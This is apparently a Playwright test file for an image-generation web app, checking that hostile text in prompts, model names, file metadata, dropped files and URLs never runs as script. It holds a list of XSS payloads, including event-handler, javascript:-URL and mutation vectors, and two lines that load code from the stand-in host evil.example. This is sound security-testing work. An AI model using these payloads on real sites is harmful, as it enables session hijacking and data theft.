"""Strangers' texts stay texts: what stands in prompts, names, metadata and errors never runs as a script of the page.

Counted are calls of a function that the payloads call, dialogs, elements that they would make, and violations of the
page's policy: a payload that became an element would be stopped by the policy, and the policy would say so.
"""

import io
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from PIL import Image, PngImagePlugin
from playwright.sync_api import expect
from studio_server import Server

VECTORS = (
    "<script>hurt()</script>",
    "<img src=x onerror=hurt()>",
    "<svg onload=hurt()>",
    "<svg><script>hurt()</script></svg>",
    "<iframe srcdoc='<script>parent.hurt()</script>'></iframe>",
    "<iframe src=javascript:parent.hurt()></iframe>",
    "<body onload=hurt()>",
    "<input autofocus onfocus=hurt()>",
    "<details open ontoggle=hurt()>",
    "<video><source onerror=hurt()></video>",
    "<math><mtext></form><form><mglyph><style></math><img src=x onerror=hurt()>",
    "<a href=javascript:hurt()>x</a>",
    "<object data=javascript:hurt()></object>",
    "<embed src=javascript:hurt()>",
    "<base href=//evil.example/><script src=a.js></script>",
    "<meta http-equiv=refresh content='0;url=javascript:hurt()'>",
    "<style>@import'//evil.example/a.css';</style>",
    "<form action=javascript:hurt()><button autofocus>x</button></form>",
    "{@html '<img src=x onerror=hurt()>'}",
    "${hurt()}{{constructor.constructor('hurt()')()}}",
)
AROUND = ("{}", "\"'>{}", "</textarea></title>{}", "javascript:hurt()//{}", "\u202e{}]]>-->")
PAYLOADS = [form.format(f"{vector} {number}") for form in AROUND for number, vector in enumerate(VECTORS)]
FEW = [PAYLOADS[1], PAYLOADS[20], PAYLOADS[41], PAYLOADS[65], PAYLOADS[98]]  # a vector in each form
assert len(set(PAYLOADS)) == 100

WATCH = """
window.ran = []; window.refused = []
window.hurt = () => window.ran.push(String(new Error().stack))
document.addEventListener('securitypolicyviolation', event => window.refused.push(
    `${event.violatedDirective} ${event.blockedURI} ${event.sample}`))
"""
MADE = """[...document.querySelectorAll(`[onerror], [onload], [onfocus], [ontoggle], iframe, object, embed, base, math,
    img[src="x"], video, meta[http-equiv=refresh], body style, body script, [href^="javascript:"],
    [action^="javascript:"]`)].map(each => each.outerHTML)"""


class Watched:
    """A tab whose scripts, dialogs and refusals are counted."""

    def __init__(self, page: Any) -> None:
        self.page = page
        self.dialogs: list[str] = []
        page.on("dialog", lambda dialog: (self.dialogs.append(dialog.message), dialog.dismiss()))
        page.context.add_init_script(WATCH)
        page.reload()

    def unharmed(self) -> None:
        """Nothing has run and nothing was made of a text until now."""
        assert self.page.evaluate("window.ran") == []
        assert self.page.evaluate("window.refused") == []
        assert self.page.evaluate(MADE) == []
        assert self.dialogs == []

    def go(self, place: str) -> None:
        """Another screen, after the one before was looked over."""
        self.unharmed()
        self.page.evaluate("place => { location.hash = place }", place)


def hostile_home(folder: Path, payloads: list[str]) -> None:
    """LoRAs, control networks, models and styles with these names, the files with them as metadata."""
    import torch
    from safetensors.torch import save_file

    home = folder / "home"
    home.mkdir()
    metadata = {f"ss_{number}": payload for number, payload in enumerate(payloads)}
    for kind in ("lora", "controlnet", "model"):
        save_file({"x": torch.zeros(1)}, home / f"{kind}.safetensors", metadata)
    places = {kind: str(home / f"{kind}.safetensors") for kind in ("lora", "controlnet", "model")}
    aliases = {f"{payload} {kind}": {"place": places[kind], "kind": kind} for payload in payloads for kind in places}
    (home / "models.json").write_text(json.dumps({"aliases": aliases}))
    quoted = ['"' + payload.replace('"', '""') + '"' for payload in payloads]
    (home / "styles.csv").write_text("\n".join(["name,prompt", *(f"{each},{each}" for each in quoted)]))


@pytest.fixture
def hostile(tmp_path: Path, request: pytest.FixtureRequest) -> Iterator[Any]:
    """A server in such a home."""
    hostile_home(tmp_path, request.param)
    made = Server(tmp_path)
    made.start()
    yield made
    made.stop()


def submit(server: Any, page: Any, payloads: list[str]) -> list[str]:
    """A job for each payload, as prompt, as what should not be there and as title; their ids."""
    ids = []
    for number, payload in enumerate(payloads):
        fields = {"prompt": payload, "negative_prompt": payload, "steps": 1, "dialect": "plain"}
        answer = page.request.post(
            f"{server.address}/sfumato/v1/jobs",
            data={"request": fields, "title": f"{payload} title"[:200]},
            headers={"X-Sfumato-Client": f"stranger-{number // 50}"},  # 64 jobs of one may wait
        )
        assert answer.ok, answer.text()
        ids.append(answer.json()["id"])
    return ids


def drop(page: Any, name: str, content: bytes, kind: str) -> None:
    transfer = page.evaluate_handle(
        """([name, bytes, type]) => {
            const transfer = new DataTransfer()
            transfer.items.add(new File([new Uint8Array(bytes)], name, { type }))
            return transfer
        }""",
        [name, list(content), kind],
    )
    page.dispatch_event(".create", "drop", {"dataTransfer": transfer})


def picture_saying(payload: str) -> bytes:
    """A picture whose texts are A1111's, all of them hostile."""
    line = payload.replace("\n", " ")
    texts = PngImagePlugin.PngInfo()
    said = f'{line}\nNegative prompt: {line}\nSteps: 2, Sampler: "{line}", Seed: 1, Size: 64x64, {line[:20]}: "{line}"'
    texts.add_text("parameters", said)
    texts.add_text("Comment", line)
    file = io.BytesIO()
    Image.new("RGB", (64, 64), "navy").save(file, "PNG", pnginfo=texts)
    return file.getvalue()


@pytest.mark.parametrize(
    "hostile",
    [pytest.param(FEW, id="few"), pytest.param(PAYLOADS, id="hundred", marks=pytest.mark.slow)],
    indirect=True,
)
def test_no_text_of_a_stranger_becomes_a_script(hostile: Any, tab: Any, request: pytest.FixtureRequest) -> None:
    payloads = request.node.callspec.params["hostile"]
    page = tab(hostile, "#/models")
    watched = Watched(page)
    jobs = submit(hostile, page, payloads)
    the_names_of_files_and_models(watched, payloads)
    the_words_of_jobs_and_pictures(watched, jobs, payloads)
    what_is_dropped_and_what_is_refused(watched, payloads)
    addresses(watched, payloads, jobs)


def the_names_of_files_and_models(watched: Watched, payloads: list[str]) -> None:
    page = watched.page
    for drawer in ("advanced", "controls", "more", "json"):
        page.evaluate("name => { localStorage['sfumato.' + name] = 'open' }", drawer)
    expect(page.get_by_role("heading", name=f"{payloads[0]} model", exact=True)).to_be_visible()
    expect(page.get_by_text("Missing:").first).to_be_visible()
    watched.go("#/create")
    for payload in payloads:
        page.get_by_label("Add a LoRA").select_option(f"{payload} lora")
        page.get_by_label("Add a control").select_option(f"{payload} controlnet")
        page.get_by_label("Add a style").select_option(payload)
    expect(page.get_by_label("Model", exact=True).locator("option")).to_have_count(len(payloads) + 1)
    watched.unharmed()
    page.get_by_role("button", name="Clear", exact=True).click()


def the_words_of_jobs_and_pictures(watched: Watched, jobs: list[str], payloads: list[str]) -> None:
    page = watched.page
    watched.go("#/queue")
    expect(page.get_by_role("region", name="Ended").get_by_text("Done").first).to_be_visible()
    expect(page.get_by_text("Nothing is waiting")).to_be_visible()
    watched.go("#/history")
    expect(page.locator(".cell .open").first).to_be_visible()
    for job, payload in zip(jobs, payloads, strict=True):
        (picture,) = page.request.get(f"{origin(page)}/sfumato/v1/jobs/{job}").json()["pictures"]
        watched.go(f"#/history/{picture['id']}")
        dialog = page.get_by_role("dialog", name="Picture")
        expect(dialog.locator(".facts p")).to_have_text(payload)
        dialog.get_by_text("The whole request").click()
        watched.unharmed()
        dialog.get_by_role("button", name="Close").click()
    page.get_by_label("Search the words").fill(payloads[-1])
    expect(page.get_by_text("1 picture", exact=True)).to_be_visible()
    page.locator(".cell .open").first.click()
    page.get_by_role("dialog").get_by_role("button", name="Reuse").click()
    expect(page.get_by_label("Prompt", exact=True)).to_have_value(payloads[-1])


def what_is_dropped_and_what_is_refused(watched: Watched, payloads: list[str]) -> None:
    page = watched.page
    for payload in payloads:
        page.evaluate("document.querySelectorAll('[aria-label=Dismiss]').forEach(each => each.click())")
        drop(page, payload, b"no picture", "text/html")
        expect(page.get_by_role("alert").filter(has_text="is not a picture").first).to_be_visible()
        drop(page, payload, picture_saying(payload), "image/png")
        expect(page.get_by_text("Settings of").first).to_be_visible()
        page.evaluate("document.querySelectorAll('[aria-label=Dismiss]').forEach(each => each.click())")
        odd = {"prompt": payload, "sampler": payload, "styles": [payload + "?"], payload: payload}
        page.locator("#json").fill(json.dumps(odd))
        page.get_by_role("button", name="Use it").click()
        page.keyboard.press("Control+Enter")
        expect(page.get_by_role("alert").first).to_be_visible()
        watched.unharmed()
    page.get_by_role("button", name="Clear", exact=True).click()


def addresses(watched: Watched, payloads: list[str], jobs: list[str]) -> None:
    page = watched.page
    for payload in payloads:
        for place in (f"#/history/{payload}", f"#/canvas/{payload}", f"#/{payload}"):
            watched.go(place)
    watched.unharmed()
    (picture,) = page.request.get(f"{origin(page)}/sfumato/v1/jobs/{jobs[0]}").json()["pictures"]
    alone = page.context.new_page()
    for path in (f"/sfumato/v1/jobs/{jobs[0]}", picture["file"], "/sfumato/v1/loras", "/sfumato/v1/styles"):
        alone.goto(f"{origin(page)}{path}")  # as a page of its own: JSON and pictures are not pages
        assert alone.evaluate("window.ran") == [], path
    assert watched.dialogs == []


def origin(page: Any) -> str:
    return "/".join(page.url.split("/")[:3])
